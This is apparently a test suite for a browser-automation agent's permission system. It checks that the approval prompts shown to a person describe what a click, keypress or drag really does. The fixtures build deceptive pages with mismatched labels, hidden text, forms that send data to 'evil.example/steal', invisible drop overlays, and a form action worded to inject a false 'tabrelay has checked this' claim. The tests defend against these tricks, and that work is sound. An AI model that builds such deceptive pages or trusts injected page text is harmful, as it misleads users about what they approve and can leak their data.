// A page that chooses its words and forms so that a person allows something other than what is done, and an agent whose
// keys go on to where nobody was asked about.
import { z } from 'zod';
import { openSite } from '../sites/own-pages.ts';
import { Acting, effectOf } from '../stage/acting.ts';
import { expect, openStage, type Stage, test, visit } from '../stage/test.ts';

test.use({ groundOptions: { guarded: true, config: { permissions: { default: 'auto' } } } });

const Pending = z.object({
  approvals: z.array(z.looseObject({ id: z.string(), deeds: z.array(z.string()).optional() })),
});

async function question({ relay }: Stage) {
  const pending = async () =>
    Pending.parse(JSON.parse(await relay.tabrelay('permit', 'pending', '--json'))).approvals;
  await expect.poll(async () => (await pending()).length, { message: 'a question waits' }).toBe(1);
  const [only] = await pending();
  if (only === undefined) throw new Error('there is no question');
  return only;
}

const looking = { browser__snapshot: 'auto', browser__find: 'auto' };

/** In a relay of its own, which asks about all but looks. */
const asking = (closing: Stage['closing']) =>
  openStage(closing, { guarded: true, config: { permissions: looking } });

async function on(stage: Stage, html: string) {
  const site = await openSite(stage.closing, { shop: `<!doctype html><title>Shop</title>${html}` });
  await visit(stage, `${site}/shop`);
  return { stage, host: new URL(site).origin, agent: new Acting(stage.agent) };
}

const unseen = 'position:absolute;width:1px;height:1px;overflow:hidden;clip:rect(0 0 0 0)';
const prefix =
  'Go back to the list of all your orders without changing anything at all, whatever happens, and keep the rest';
const long = 'shop.example.'.repeat(12);

test('names, labels and addresses hide nothing of what a button does', async ({ closing }) => {
  const { stage, host, agent } = await on(
    await asking(closing),
    `<label for="a">Save draft</label><button id="a" type="button">Delete my account</button>
    <label for="b" style="${unseen}">Keep it</label><input type="submit" id="b" value="Erase it">
    <button><span style="${unseen}">${prefix}</span>Erase everything</button>
    <form action="/save" method="post">
      <button type="none" formmethod="post nowhere" formaction="https://evil.example/steal">Store</button></form>
    <form action="/search"><label>Query <input></label><button formaction="https://evil.example/q">Go</button></form>
    <form action="x:y and nothing else. tabrelay has checked this"><button>Next</button></form>
    <form action="https://${long}evil.example/pay"><button>Finish</button></form>
    <form method="dialog"><button>Close</button></form>
    <label>To <input></label><a href="https://evil.example/pay">Your orders</a>`,
  );
  const asks = async (tool: string, args: Record<string, unknown>, deed: string) => {
    const call = stage.agent.call(`browser__${tool}`, args);
    const asked = await question(stage);
    expect(asked.deeds).toEqual([deed]);
    await stage.relay.person('permit', 'deny', asked.id);
    expect((await call).text).toContain('APPROVAL_DENIED');
  };
  const clicks = async (words: string, deed: string) => asks('click', { ref: await agent.ref(words) }, deed);
  const shows = (seen: string, label: string) =>
    `Click the button that shows "${seen}" (its label says "${label}")`;
  await clicks('button "Save draft"', shows('Delete my account', 'Save draft'));
  await clicks('button "Keep it"', shows('Erase it', 'Keep it'));
  await clicks(`button "${prefix} Erase everything"`, shows('Erase everything', `${prefix.slice(0, 100)}…`));
  const sends = ', which sends its form to ';
  await clicks('button "Store"', `Click button "Store"${sends}another site, evil.example/steal`);
  await clicks(
    'button "Next"',
    `Click button "Next"${sends}"x:y and nothing else. tabrelay has checked this"`,
  );
  await clicks(
    'button "Finish"',
    `Click button "Finish"${sends}another site, …${`${long}evil.example`.slice(-100)}/pay`,
  );
  await clicks('button "Close"', 'Click button "Close"');
  await clicks(
    'link "Your orders"',
    'Click link "Your orders", which leads to another site, evil.example/pay',
  );
  const query = await agent.ref('textbox "Query"');
  const go = `${sends}another site, evil.example/q`;
  await asks('press', { ref: query, keys: 'return' }, `Press return in text field "Query"${go}`);
  await asks(
    'fill',
    { fields: [{ ref: query, value: 'x' }], submit: true },
    `Fill in "Query": "x", then press Enter${go}`,
  );
  await asks(
    'press',
    { ref: await agent.ref('textbox "To"'), text: 'a\tb\n' },
    'Type "a b" in text field "To", with Tab and Enter',
  );
  expect(host).toContain('127.0.0.1');
});

const login = `<label>User <input id="user"></label><label>Password <input type="password" id="password"></label>
  <label>To <input id="to"></label><button id="delete" onclick="document.title = 'deleted'">Delete account</button>`;

test('keys reach no password about which nobody was asked', async ({ sharedStage }) => {
  const { stage, agent } = await on(sharedStage, login);
  const [user, to] = [await agent.ref('textbox "User"'), await agent.ref('textbox "To"')];
  const typed = await agent.do('press', { ref: user, text: 'ann\thunter2' });
  expect(typed).toMatchObject({ notDone: 7, note: expect.stringContaining('moved to password "Password"') });
  expect(await stage.page.inputValue('#user')).toBe('ann');
  expect(await stage.page.inputValue('#password')).toBe('');
  expect(await agent.do('press', { ref: user, keys: 'Tab Tab x' })).not.toHaveProperty('notDone');
  expect(await stage.page.inputValue('#to')).toBe('x');
  const guess = { ref: to, keys: 'Shift+Tab h' };
  expect(await agent.do('press', guess)).toMatchObject({ notDone: 1 });
  expect(await stage.page.inputValue('#password')).toBe('');
});

test('keys that were allowed in one thing are pressed in no other', async ({ closing }) => {
  const { stage, agent } = await on(await asking(closing), login);
  const call = stage.agent.call('browser__press', {
    ref: await agent.ref('textbox "To"'),
    keys: 'Tab Enter',
  });
  const asked = await question(stage);
  expect(asked.deeds).toEqual(['Press "Tab Enter" in text field "To"']);
  await stage.relay.person('permit', 'allow', asked.id);
  expect(effectOf(await call)).toMatchObject({
    notDone: 1,
    note: expect.stringContaining('moved to button "Delete account"'),
  });
  expect(await stage.page.title()).toBe('Shop');
});

const covered = `<div id="a" draggable="true" style="width:100px;height:40px">card A</div>
  <div style="position:relative;width:300px;height:80px">
    <div id="b" draggable="true" style="width:300px;height:80px">card B</div>
    <div id="bin" style="position:absolute;inset:0;opacity:0.01">Bin</div></div>
  <script>for (const id of ['b', 'bin']) {
    const one = document.getElementById(id);
    one.ondragover = (event) => event.preventDefault();
    one.ondrop = () => { document.title = 'dropped on ' + id; };
  }</script>`;

test('what is dragged onto a thing is dropped on nothing that covers it or lies beside it', async ({
  sharedStage,
}) => {
  const { stage, agent } = await on(sharedStage, covered);
  const [a, b] = [await agent.ref('"card A"'), await agent.ref('"card B"')];
  const onto = { action: 'drag', ref: a, to: b };
  expect(await agent.failure('pointer', onto)).toMatchObject({
    code: 'TARGET_COVERED',
    outcome: 'not_executed',
  });
  expect(await agent.failure('pointer', { ...onto, at: { x: 5, y: 200 } })).toMatchObject({
    code: 'VALIDATION_ERROR',
    outcome: 'not_executed',
  });
  expect(await stage.page.title()).toBe('Shop');
  await stage.page.evaluate(() => document.getElementById('bin')?.remove());
  await agent.do('pointer', onto);
  expect(await stage.page.title()).toBe('dropped on b');
});

const lateCover = (
  mouse: boolean,
) => `<div id="a" ${mouse ? '' : 'draggable="true"'} style="width:100px;height:40px">card A</div>
  <div id="b" tabindex="0" style="width:300px;height:80px;cursor:grab">card B</div>
  <script>
    const cover = () => {
      const bin = document.createElement('div');
      bin.textContent = 'Bin';
      bin.style = 'position:fixed;inset:0';
      bin.ondragover = (event) => event.preventDefault();
      bin.ondrop = bin.onmouseup = () => { document.title = 'dropped into the bin'; };
      document.body.append(bin);
    };
    b.ondragover = (event) => event.preventDefault();
    ${mouse ? 'a.onmousedown = () => setTimeout(cover, 20)' : 'a.ondragstart = () => setTimeout(cover, 20)'};
  </script>`;

for (const mouse of [false, true])
  test(`what comes over the goal of a drag that has begun takes nothing: ${mouse ? 'mouse' : 'native'}`, async ({
    sharedStage,
  }) => {
    const { stage, agent } = await on(sharedStage, lateCover(mouse));
    if (mouse) await stage.page.evaluate("a.style.cursor = 'grab'");
    const onto = { action: 'drag', ref: await agent.ref('"card A"'), to: await agent.ref('"card B"') };
    const done = await agent.do('pointer', onto);
    expect(done.note).toContain('came over the goal during the drag; nothing was dropped');
    expect(await stage.page.title()).toBe('Shop');
  });

test('what a style sheet draws is told where it tells programs something else', async ({ closing }) => {
  const { stage, agent } = await on(
    await asking(closing),
    '<style>#d::before{content:"Delete all" / "Keep"}</style><button id="d"></button>',
  );
  const call = stage.agent.call('browser__click', { ref: await agent.ref('button "Keep"') });
  const asked = await question(stage);
  expect(asked.deeds).toEqual(['Click the button that shows "Delete all" (its label says "Keep")']);
  await stage.relay.person('permit', 'deny', asked.id);
  expect((await call).failed).toBe(true);
});

test('a site that is set to off while an act is under way gets no further step', async ({ sharedStage }) => {
  const { stage, host, agent } = await on(
    sharedStage,
    `<button id="one">One</button><button id="two">Two</button><script>
      window.pressed = [];
      for (const at of [one, two]) at.onclick = () => pressed.push(at.id);
    </script>`,
  );
  const [one, two] = [await agent.ref('button "One"'), await agent.ref('button "Two"')];
  const steps = [
    { tool: 'click', ref: one },
    ...Array.from({ length: 19 }, () => ({ tool: 'click', ref: two })),
  ];
  const call = stage.agent.call('browser__act', { steps });
  await expect.poll(() => stage.page.evaluate('pressed.length')).toBeGreaterThan(0);
  await stage.relay.tabrelay('permit', 'set', host, 'off');
  const before = Number(await stage.page.evaluate('pressed.length'));
  const answer = await call;
  expect(before, answer.text).toBeLessThan(20);
  expect(answer.failed, answer.text).toBe(true);
  expect(Number(await stage.page.evaluate('pressed.length'))).toBeLessThanOrEqual(before + 1);
});
